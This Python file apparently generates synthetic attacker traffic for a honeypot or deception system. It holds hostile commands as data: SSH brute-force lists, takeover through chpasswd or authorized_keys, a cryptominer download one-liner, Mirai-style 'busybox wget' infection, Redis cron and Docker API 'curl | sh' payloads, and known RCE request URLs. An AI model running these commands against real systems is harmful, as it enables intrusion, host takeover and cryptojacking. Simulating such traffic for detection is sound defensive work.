# SPDX-License-Identifier: MIT
"""What a visit in the sixth world consists of."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    PortScan,
    ServiceRequest,
    SessionClosed,
    SessionOpened,
    TcpStack,
    TlsClient,
)
from planted import fifth_acts
from planted.arsenal import Client, Key, client, word
from planted.fifth_acts import Credential, Person
from planted.trades import arrive

BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
ACCOUNTS = ("root", "admin", "ubuntu", "user", "oracle", "postgres", "test", "debian", "centos", "www-data")
POOLS = ("gulf.moneroocean.stream:10128", "pool.hashvault.pro:443", "xmr-eu1.nanopool.org:14433", "auto.c3pool.org:80")
CLIENTS = tuple(client(Random(f"sixth client {number}")) for number in range(18))
"""What everybody uses, the first ones most: libraries and versions of OpenSSH on stock systems."""
TOOLS = tuple(client(Random(f"sixth tool {number}")) for number in range(4))
"""Builds of the public tool that guesses."""
LIST = tuple(
    (dice.choice(ACCOUNTS), secret)
    for dice in (Random("sixth list"),)
    for secret in ("123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111", "1234567",
                   "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein", "696969", "shadow",
                   "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890", "michael", "654321", "pass",
                   "superman", "1qaz2wsx", "7777777", "fuckyou", "121212", "000000", "qazwsx", "123qwe", "killer")
)  # fmt: skip
"""The first passwords of the list that everybody gives to the tool."""
LOOKS = (
    *("uname -a", "cat /etc/passwd", "ls -la /root", "ps auxf", "free -m", "cat /etc/issue", "last -n 20", "who"),
    *("ifconfig -a", "cat /proc/meminfo", "netstat -tulpn", "dmidecode | head", "which gcc", "ls /opt", "top -bn1"),
    *("crontab -l", "history 20", "sudo -l", "find / -perm -4000 2>/dev/null", "ls -la /home", "mount", "lsblk"),
)
ONE_LINER = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh -o s.sh",
    "systemctl stop c3pool_miner; pkill -9 xmrig; rm -rf /root/c3pool",
    "lscpu | grep '^CPU(s)'; free -g | grep Mem",
)
"""What is pasted from a page of the Web; the wallet comes after it."""
PATHS = ("/", "/login", "/.env", "/.git/HEAD", "/owa/", "/solr/", "/api/jsonws", "/geoserver", "/boaform/admin")
AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Go-http-client/1.1", "curl/7.88.1", "python-httpx/0.27.0", "-")


def common(dice: Random) -> Client:
    """Return what a machine looks like: one of the stock systems; a proxy or another kernel changes its stack."""
    at = CLIENTS[int(18 * dice.random() ** 2)]
    return at._replace(stack=CLIENTS[int(18 * dice.random() ** 2)].stack) if dice.random() < 0.2 else at


def newer(dice: Random) -> Client:
    """Return a client in a version that few have."""
    at = common(dice)
    return at._replace(banner=f"SSH-2.0-OpenSSH_{dice.randrange(7, 10)}.{dice.randrange(10)}p{dice.randrange(1, 3)}")


def tool_of(dice: Random) -> Client:
    """Return a build of the public tool, on one of the stock systems."""
    return dice.choice(TOOLS)._replace(stack=common(dice).stack)


def easy(dice: Random) -> Credential:
    return dice.choice(LIST[:12])


def touch(dice: Random, at: Client) -> Iterator[Payload]:
    """Touch and go."""
    yield TcpStack("syn", "4:64", at.stack)
    match dice.randrange(4):
        case 0:
            ports = tuple(sorted(dice.sample((21, 22, 23, 80, 443, 445, 3389, 5900, 6379, 8080, 9200), 3)))
            yield PortScan("syn", ports, len(ports), dice.randrange(1, 5), 500, len(ports))
        case 1:
            yield ConnectionOpened(dice.choice(("ssh", "telnet", "redis", "rdp", "smb")))
        case 2:
            yield ConnectionOpened("http")
            yield TlsClient("tcp", "0" * 32, at.ja4, 0x0303)
        case _:
            yield ConnectionOpened("http")
            agent = dice.choice(AGENTS)
            yield HttpClient("GET", "HTTP/1.1", "library", at.headers, ("Host", "User-Agent"), agent)
            yield HttpRequest("GET", dice.choice(PATHS), user_agent=agent, status=404)


def hydra(dice: Random, at: Client, words: Sequence[Credential]) -> Iterator[Payload]:
    """Walk the list from its beginning, with one's own words somewhere between."""
    yield from arrive(at)
    logins = list(LIST[: dice.randrange(8, len(LIST))])
    for own in dice.sample(words, min(len(words), dice.randrange(3))):
        logins.insert(dice.randrange(len(logins)), own)
    for user, secret in logins:
        yield LoginAttempt("ssh", user, False, password=secret)


def take_over(dice: Random, at: Client, secret: str, key: Key, lines: Sequence[str]) -> Iterator[Payload]:
    """Log in with what was found, and keep the machine."""
    yield from arrive(at)
    user, found = easy(dice)
    yield LoginAttempt("ssh", user, True, password=found)
    yield SessionOpened("ssh", user)
    done = [dice.choice(LOOKS), *dice.sample(lines, 1)]
    done.append(
        f"echo '{user}:{secret}' | chpasswd" if dice.random() < 0.7 else f"echo '{key.line}' >> .ssh/authorized_keys"
    )
    yield from (CommandRun("ssh", line) for line in done)
    yield SessionClosed("ssh", dice.randrange(900, 9_000), len(done))


def sit(dice: Random, one: Person, way_in: Credential | None) -> Iterator[Payload]:
    """Do what a person does, with a lookup or two that everybody does."""
    yield from fifth_acts.sit_down(dice, one, way_in)
    if dice.random() < 0.3:
        yield CommandRun("ssh", dice.choice(LOOKS))


class Miner(NamedTuple):
    """Somebody who mines for a wallet."""

    wallet: str
    pool: str
    rig: str


def _paste(dice: Random, at: Client) -> Iterator[Payload]:
    yield from arrive(at)
    user, secret = easy(dice)
    yield LoginAttempt("ssh", user, True, password=secret)
    yield SessionOpened("ssh", user)
    yield from (CommandRun("ssh", line) for line in ONE_LINER if dice.random() < 0.9)


def mine(dice: Random, at: Client, one: Miner) -> Iterator[Payload]:
    """Paste the one-liner, with one's wallet."""
    yield from _paste(dice, at)
    if dice.random() < 0.5:
        yield CommandRun("ssh", f"bash s.sh {one.wallet}")
    else:
        yield CommandRun("ssh", f"./xmrig -o {one.pool} -u {one.wallet}.{one.rig}{dice.randrange(100)} -p x -k --tls")


def copy(dice: Random, at: Client) -> Iterator[Payload]:
    """Paste the one-liner as it stands on the page."""
    yield from _paste(dice, at)
    wallet = "".join(dice.choice(BASE58) for _ in range(94))
    yield CommandRun("ssh", f"bash s.sh 4{wallet}" if dice.random() < 0.5 else "bash s.sh YOUR_WALLET_ADDRESS")


class Fork(NamedTuple):
    """A build of the botnet on a day."""

    applet: str
    named: str
    host: str
    programs: tuple[str, ...]


def spread(dice: Random, fork: Fork) -> Iterator[Payload]:
    """Infect as the published source does."""
    yield ConnectionOpened("telnet")
    yield TcpStack("syn", "4:64", CLIENTS[dice.randrange(3)].stack)
    logins = (("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "anko"), ("guest", "12345"))
    for user, secret in dice.sample(logins, dice.randrange(1, 4)):
        yield LoginAttempt("telnet", user, False, password=secret)
    yield LoginAttempt("telnet", "root", True, password="Zte521")
    kind = dice.randrange(3)
    url = f"http://{fork.host}/{fork.named}.{('arm', 'mips', 'x86')[kind]}"
    for line in ("enable", "system", "shell", "sh", f"/bin/busybox {fork.applet}", "cat /proc/mounts"):
        yield CommandRun("telnet", line)
    yield CommandRun("telnet", f"/bin/busybox wget {url} -O - > dvrHelper; ./dvrHelper; /bin/busybox {fork.applet}")
    if dice.random() < 0.6:
        yield FileCaptured("telnet", fork.programs[kind], 55_000, None, url)


class Habitual(NamedTuple):
    """Somebody who owns nothing: what they do is all that is seen."""

    at: Client
    looks: tuple[str, ...]
    typos: tuple[str, ...]
    pace: float


def mistyped(dice: Random, line: str) -> str:
    """Return the line with two neighbouring characters exchanged."""
    place = dice.randrange(len(line) - 1)
    return line[:place] + line[place + 1] + line[place] + line[place + 2 :]


def look_around(dice: Random, person: Habitual) -> Iterator[Payload]:
    """Look around in one's order, mistype what one always mistypes."""
    yield from arrive(person.at)
    user, secret = easy(dice)
    yield LoginAttempt("ssh", user, True, password=secret)
    yield SessionOpened("ssh", user, "xterm-256color")
    lines = [line for line in person.looks if dice.random() < 0.85]
    for typo in person.typos:
        if dice.random() < 0.7:
            lines.insert(dice.randrange(len(lines) + 1), typo)
    yield from (CommandRun("ssh", line) for line in lines)
    typing = fifth_acts.rhythm(dice, person.pace, len(lines) + 1)
    yield SessionClosed("ssh", 1000 * dice.randrange(60, 900), len(lines), typing=typing)


class Worm(NamedTuple):
    """What a worm of open services leaves."""

    url: str
    image: str
    key: Key


def redis(dice: Random, worm: Worm) -> Iterator[Payload]:
    """Have Redis write a table of cron, or a key."""
    yield ConnectionOpened("redis")
    yield TcpStack("syn", "4:64", common(dice).stack)
    name = dice.choice(("backup1", "x", "weaponz", "1"))
    yield ServiceRequest("redis", "INFO")
    yield ServiceRequest("redis", "FLUSHALL")
    if dice.random() < 0.8:
        yield ServiceRequest("redis", "SET", {"ARGS": f"{name} \\n\\n*/2 * * * * curl -fsSL {worm.url} | sh\\n\\n"})
        yield ServiceRequest("redis", "CONFIG", {"ARGS": "SET dir /var/spool/cron"})
    else:
        yield ServiceRequest("redis", "SET", {"ARGS": f"{name} \\n\\n{worm.key.line}\\n\\n"})
        yield ServiceRequest("redis", "CONFIG", {"ARGS": "SET dir /root/.ssh"})
    yield ServiceRequest("redis", "SAVE")


def docker(dice: Random, worm: Worm) -> Iterator[Payload]:
    """Have an open Docker start a container that takes the host."""
    yield ConnectionOpened("docker")
    yield TcpStack("syn", "4:64", common(dice).stack)
    agent = dice.choice(("Docker-Client/19.03.8 (linux)", "Go-http-client/1.1"))
    yield HttpRequest("GET", "/v1.24/containers/json", user_agent=agent, status=200)
    command = ["sh", "-c", f"curl -s {worm.url} | bash"] if dice.random() < 0.7 else ["/start.sh"]
    body = json.dumps({"Image": worm.image, "Cmd": command, "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}})
    yield HttpRequest("POST", "/v1.24/containers/create", user_agent=agent, status=201, body=body)


def web_shell(dice: Random, at: Client, shell: str, field: str, server: str) -> Iterator[Payload]:
    """Upload a Web shell by a published weakness, and use it."""
    yield from arrive(at, "http")
    agent = dice.choice(AGENTS)
    yield HttpClient("POST", "HTTP/1.1", "library", at.headers, ("Host", "User-Agent", "Accept"), agent)
    if dice.random() < 0.6:
        yield HttpRequest("POST", f"/wp-content/plugins/upload.php?f={shell}", user_agent=agent, status=200)
    lines = (f"{field}=id", f"{field}=cat+wp-config.php", f"{field}=curl+http://{server}/{word(Random(field), 2)}|sh")
    for body in dice.sample(lines, 2):
        yield HttpRequest("POST", f"/wp-content/uploads/{shell}", user_agent=agent, status=200, body=body)


def exploit(dice: Random, at: Client, server: str) -> Iterator[Payload]:
    """Try proofs of concept that everybody tries, with a server of one's own."""
    yield from arrive(at, "http")
    agent = dice.choice(AGENTS)
    yield HttpClient("GET", "HTTP/1.1", "library", at.headers, ("Host", "User-Agent"), agent)
    targets = (
        f"/index.php?s=/index/think\\app/invokefunction&vars[1][]=wget+http://{server}/t.sh",
        f"/setup.cgi?next_file=netgear.cfg&cmd=rm+-rf+/tmp/*;wget+http://{server}/Mozi.m",
        f"/shell?cd+/tmp;wget+http://{server}/jaws.sh;sh+jaws.sh",
    )
    yield HttpRequest("GET", dice.choice(targets), user_agent=agent, status=404)
